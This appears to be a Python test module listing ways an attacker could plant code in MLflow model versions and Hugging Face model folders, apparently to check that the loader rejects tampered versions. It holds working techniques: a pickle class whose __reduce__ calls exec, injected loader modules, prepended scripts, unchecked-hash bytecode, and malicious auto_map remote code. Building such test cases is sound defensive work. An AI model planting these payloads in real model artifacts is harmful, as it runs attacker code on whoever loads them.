"""What an attacker plants in a model version, or beside it. The payload is Python code that leaves a mark."""

import importlib.util
import json
import pickle
import py_compile
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from data_prep.pins import pin
from data_prep.pretrained import PretrainedRef
from infra.tracking import PACKAGE_PATH
from training.package import SCRIPT, TRAINABLES, read_package, write_package

Attack = Callable[["Target"], None]


@dataclass(frozen=True)
class Target:
    """Where an attacker writes, and Python code that leaves a mark."""

    version: Path
    language_model: Path
    """Which all versions stand on, and which their pins know."""
    code: str

    def set_flavor(self, **fields: str | None) -> None:
        """Of what MLflow makes of the version. None removes a field."""
        path = self.version / "MLmodel"
        told = yaml.safe_load(path.read_text())
        flavor = told["flavors"]["python_function"]
        flavor.update(fields)
        told["flavors"]["python_function"] = {name: value for name, value in flavor.items() if value is not None}
        path.write_text(yaml.safe_dump(told))


class Bomb:
    """Pickled, this runs code when it is read."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.code,)


def a_pickle(target: Target) -> None:
    for name in ("python_model.pkl", f"{PACKAGE_PATH}/pytorch_model.bin", f"{PACKAGE_PATH}/trainables.pkl"):
        (target.version / name).write_bytes(pickle.dumps(Bomb(target.code)))
    target.set_flavor(python_model="python_model.pkl", model_code_path=None)


def a_loader_module(target: Target) -> None:
    (target.version / "code").mkdir()
    (target.version / "code" / "evil.py").write_text(target.code)
    target.set_flavor(loader_module="evil", code="code")


def an_altered_script(target: Target) -> None:
    for folder in (target.version, target.version / PACKAGE_PATH):
        (folder / SCRIPT).write_text(target.code + (folder / SCRIPT).read_text())


def bytecode(target: Target) -> None:
    """Of a kind that Python does not compare with its source."""
    evil = target.version.parent / "evil.py"
    evil.write_text(target.code)
    for folder in (target.version, target.version / PACKAGE_PATH):
        (folder / "__pycache__").unlink(missing_ok=True)
        compiled = importlib.util.cache_from_source(str(folder / SCRIPT))
        py_compile.compile(str(evil), compiled, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)


def remote_code(target: Target, model_type: str = "llama") -> None:
    """In a package that pins a language model of the attacker's. Every digest in it is right."""
    folder = target.version / "language_model"
    shutil.copytree(target.language_model, folder)
    _add_remote_code(folder, target.code, model_type)
    package = target.version / PACKAGE_PATH
    card = read_package(package).card
    made = target.version.parent / "package"
    pinned = pin(PretrainedRef(folder=folder), None, None)  # type: ignore[arg-type]  # a folder needs no cache
    write_package(made, card.model_copy(update={"language_model": pinned}), package / TRAINABLES)
    shutil.rmtree(package)
    made.rename(package)


def remote_code_of_an_unknown_architecture(target: Target) -> None:
    remote_code(target, "evil")


def remote_code_in_the_language_model(target: Target) -> None:
    """In the genuine one's own folder."""
    _add_remote_code(target.language_model, target.code, "llama")


def _add_remote_code(folder: Path, code: str, model_type: str) -> None:
    (folder / "evil.py").write_text(
        f"{code}from transformers import LlamaConfig as C, LlamaForCausalLM as M\n"
        "class Config(C): model_type = 'evil'\nclass Model(M): config_class = Config\n"
    )
    classes = {"AutoConfig": "evil.Config", "AutoModelForCausalLM": "evil.Model", "AutoTokenizer": "evil.Tokenizer"}
    for name in ("config.json", "tokenizer_config.json"):
        told = json.loads((folder / name).read_text()) | {"auto_map": classes}
        (folder / name).write_text(json.dumps(told | ({"model_type": model_type} if name == "config.json" else {})))


ON_VERSIONS: list[Attack] = [
    a_pickle, a_loader_module, an_altered_script, bytecode,
    remote_code, remote_code_of_an_unknown_architecture,
]  # fmt: skip
ALL = [*ON_VERSIONS, remote_code_in_the_language_model]
